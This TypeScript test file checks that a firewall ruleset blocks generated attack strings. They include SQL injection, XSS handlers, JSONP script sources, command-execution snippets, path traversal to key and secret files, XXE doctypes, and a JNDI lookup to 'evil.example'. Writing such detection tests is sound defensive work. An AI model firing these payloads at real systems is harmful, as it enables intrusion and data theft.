import assert from "node:assert/strict";
import { test } from "node:test";
import { MANAGED_RULESET_ID } from "./request-rulesets.ts";
import { managedMatches, type RequestChanges } from "./testing/managed-request.ts";
import { writtenRequests } from "./testing/written-requests.ts";

const isBlocked = (request: RequestChanges): boolean =>
  managedMatches(MANAGED_RULESET_ID, request).some(({ action }) => action === "block");
const isStopped = (text: string): boolean => isBlocked({ query: `q=${encodeURIComponent(text)}` });

/** Of attacks that are blocked by themselves, those that pass in any of these wrappings. */
function hidden(attacks: readonly string[], wrappings: readonly ((attack: string) => string)[]): readonly string[] {
  const texts = attacks.filter(isStopped).flatMap((attack) => wrappings.map((wrap) => wrap(attack)));
  assert.ok(texts.length >= 200, `only ${texts.length} are tried`);
  return texts.filter((text) => !isStopped(text));
}

const behind = (beginnings: readonly string[]): readonly ((attack: string) => string)[] =>
  beginnings.map((begin) => (text) => begin + text);
const pairs = (first: readonly string[], second: readonly string[]): readonly string[] => first.flatMap((a) => second.map((b) => a + b));

const ENDING_STRINGS = writtenRequests("sql").flatMap(({ line, place }) => (place === "query" && /^['"][^a-z]/i.test(line) ? [line] : []));

test("an attack that ends a string is blocked behind the beginning of a statement, a filter, a formula or a search", () => {
  const beginnings = [
    "select a from b",
    "select name, total from orders where state = ",
    "explain select a from b",
    "with a as (",
    "insert into t",
    "update t set a",
    "delete from t",
    "show tables",
    "describe t",
    "drop table t",
    "truncate t",
    "grant t",
    "copy a from ",
    "merge into ",
    "price eq ",
    "name eq x",
    "startswith(name,x) eq ",
    "=if(",
    "=query(a;",
    "status in (open) and owner ~ ",
    "owner is empty and ",
  ];
  assert.deepEqual(hidden(ENDING_STRINGS, behind(beginnings)), []);
  assert.deepEqual(
    hidden(ENDING_STRINGS, behind(["select a from b".padEnd(9000), "insert into t".padEnd(20_000, " x")])),
    [],
    "behind more than the part that is read first",
  );
});

test("words that stand in a string of any dialect, or that SQL itself has side by side, do not make a sentence of an attack", () => {
  const words = ["one two three", "the quick brown fox"];
  const strings = ['"W"', "`W`", "[W]", "$$W$$", "$a$W $ x$a$", "q'[W]'", "q'{it's W}'", `"W'"`, "'W\"'", '"it\\"s W"'].flatMap((form) =>
    words.map((text) => form.replace("W", () => text)),
  );
  const conditions = [
    ...pairs(["1=1 or ", "id>0 or ", "true or ", "not false or ", "id is not null or "], strings).map((text) => `${text}=`),
    "coalesce(name, email, phone) > ",
    "concat(name, email, phone) like ",
    "now() at time zone 'utc' > ",
    "cast(id as varchar2(10 char)) > ",
    "name in users notnull or id = ",
    "id in (select id from users force index (primary)) or id = ",
    "id between 1 and 9 or 'x' member of (names) or id = ",
  ];
  const attacks = pairs(["' or ", "') or ("], conditions).map((text) => `${text}'`);
  assert.deepEqual(
    attacks.filter((text) => !isStopped(text)),
    [],
    "by themselves",
  );
  assert.deepEqual(hidden(attacks, behind([...words, "my old dog, my cat and me"])), []);
});

test("a condition that always holds is blocked behind a column and a comparison", () => {
  const columns = ["a = 5", "id=5", "owner is null", "status in (1)", 'status in ("open")', "name like 'x'", "u.id > 3", "not a = b"];
  const truths = ["1=1", "7 = 7", "'a'='a'", "(1=1)", "2 like 2", "'x' like 'x'"];
  const attacks = pairs(pairs(columns, [" or ", " and 1 or ", " or b = 2 or ", "  or  ", ") or ("]), truths);
  assert.deepEqual(
    attacks.filter((text) => !isStopped(text)),
    [],
  );
  assert.ok(attacks.length >= 200);
});

test("a script is blocked beside handlers without one", () => {
  const harmless = ['onclick=""', "onclick={save}", 'onsubmit="return false"', "onchange={(e)=>set(e)}", "onblur=''"];
  const scripts = ["fetch('//e')", "import('//e')", "top[8680439..toString(30)](1)", "location=name", "self.x.y(1)"];
  const others = scripts.flatMap((script) => [
    `onerror=${script}`,
    `onload="${script};a=''"`,
    `onfocus='${script};a=""'`,
    `onerror={self};${script}`,
    `onerror={self}/1;${script}`,
    `onmouseover={async (${script})}`,
    `onerror="return false||${script}"`,
    `ontoggle=""+${script}`,
  ]);
  const attacks = others.flatMap((other) =>
    harmless.flatMap((handler) => [`<img src=x ${handler} ${other}>`, `<svg ${other} ${handler}>`]),
  );
  assert.ok(attacks.length >= 200);
  assert.deepEqual(
    attacks.filter((text) => !isStopped(text)),
    [],
  );
});

test("scripts that visitors control are blocked whatever known server sends them", () => {
  const servers = [
    "www.youtube.com",
    "platform.twitter.com",
    "speakerdeck.com",
    "www.tiktok.com",
    "www.google.com/recaptcha",
    "connect.facebook.net",
  ];
  const paths = [
    "/oembed?callback=alert",
    "/oembed.json?a=1&callback=x",
    "/x?jsonp=alert",
    "/x?a&cb=eval",
    "/../complete/search?q=x",
    "/a?x=%2e%2e",
    "/a.js?u=//e",
  ];
  const more = [
    "www.googletagmanager.com/gtm.js?id=GTM-EVIL",
    "www.googletagmanager.com/gtag/js?id=GTM-EVIL",
    "www.youtube.com/redirect",
    "www.youtube.com/watch",
  ];
  const sources = [...pairs(servers, paths), ...more].flatMap((source) => [`https://${source}`, `//${source}`]);
  const attacks = sources.flatMap((source) => [
    `<script src="${source}"></script>`,
    `<script async src="${source}"></script>`,
    `<p>x</p><script src="${source}" defer></script>`,
  ]);
  assert.ok(attacks.length >= 200);
  assert.deepEqual(
    attacks.filter((text) => !isStopped(text)),
    [],
  );
});

test("attacks are blocked beside stack traces, idioms, nested parts and public document types", () => {
  const java = [
    "java.lang.Runtime",
    "new java.lang.ProcessBuilder(x)",
    "ysoserial.payloads.X",
    "javax.script.ScriptEngineManager",
    "org.apache.commons.collections.functors.X",
    "java.net.URLClassLoader",
    "jdk.nashorn.api.X",
  ];
  const frames = [
    "at a.b.C(D.java:1)",
    "at java.lang.reflect.Method.invoke(Method.java:498)",
    "Caused by: a.b.XException: y\n at a.b.C(D.java:2)",
    '"module": "a.b.c"',
  ];
  const traces = java.flatMap((name) => frames.flatMap((frame) => [`${name} ${frame}`, `${frame} ${name}`, `${frame}\n${name}\n${frame}`]));
  const idioms = pairs(
    ['system("pause");', "system('cls') ;", 'system("clear");return 0;}'],
    ['system("id")', "passthru('id');", "eval($_GET[1]);", "}exec('id');"],
  );
  const python = pairs(
    ["#!/bin/x\n", "#!/usr/bin/python\n", "#!/", "Traceback (most recent call last):\n{{", "Traceback (most recent call last) ${"],
    ["__import__('os').system('id')", "os.popen('id').read()}}", "subprocess.check_output('id')", "x.__class__.__mro__}"],
  );
  const parts = pairs(
    pairs(
      ["--x\r\ncontent-disposition: a;\r\n", "--x\nContent-Type: text/plain\n"],
      ["Set-Cookie: a=b", "Location: //e", "Refresh: 0;url=//e", "Access-Control-Allow-Origin: *"],
    ),
    ["\r\n\r\n--", "\r\n\r\nx\r\n--x--"],
  );
  const types = pairs(
    pairs(
      [
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" ',
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" ',
        "<!DOCTYPE html PUBLIC 'x' ",
      ],
      [
        '"http://e.example/x.dtd"',
        "'file:///etc/x'",
        '"https://www.w3.org.e.example/x.dtd"',
        '"http://e/www.w3.org/"',
        '"http://www.w3.org@e/"',
        "SYSTEM 'x'",
      ],
    ),
    ["><x>&y;</x>", " >&y;", "[]>&y;"],
  );
  const attacks = [...traces, ...idioms, ...python, ...parts, ...types];
  assert.ok(attacks.length >= 180, String(attacks.length));
  assert.deepEqual(
    attacks.filter((text) => !isStopped(text)),
    [],
  );
});

test("steps upwards are blocked behind a folder whose name has a space", () => {
  const folders = ["my files", "a b", "x ", "new folder (2)", "été 2026"];
  const steps = ["/../../", "/./../../", "/../x/../../", "/x/../../../"];
  const files = [
    "config/database.yml",
    "settings.xml",
    "secrets.json",
    "web.config",
    "key.pem",
    "app/db.sqlite",
    "dump.sql",
    "id.pub",
    "server.key",
    "a.log",
  ];
  const attacks = pairs(pairs(folders, steps), files);
  assert.ok(attacks.length >= 200);
  assert.deepEqual(
    attacks.filter((text) => !isStopped(text)),
    [],
  );
});

test("values that report what others sent pass only under the names of their protocols, and lookups of logs do not pass", () => {
  const sent = (type: string, body: string): RequestChanges => ({ headers: { "Content-Type": [type] }, body });
  const attack = "<script>alert(1)</script> ' union select password from users--";
  const reported = (value: string): object => ({ resourceLogs: [{ scopeLogs: [{ logRecords: [{ body: { stringValue: value } }] }] }] });
  const json = (document: object): RequestChanges => sent("application/json", JSON.stringify(document));
  assert.ok(!isBlocked(json(reported(attack))));
  const requests = {
    "a lookup": json(reported("${jndi:ldap://evil.example/a}")),
    "another name": json({ logs: reported(attack) }),
    "a field beside it": json({ ...reported("x"), q: attack }),
    "a form": sent("application/x-www-form-urlencoded", `resourceLogs.scopeLogs.logRecords.body.stringValue=${encodeURIComponent(attack)}`),
    "a shared file and another path": { query: `f=${encodeURIComponent("/etc/passwd:/etc/passwd:/etc/shadow")}` },
    "a shared file that is not one": { query: `f=${encodeURIComponent("/etc/passwd:/etc/shadow")}` },
  };
  const missed = Object.entries(requests).flatMap(([name, request]) => (isBlocked(request) ? [] : [name]));
  assert.deepEqual(missed, []);
});
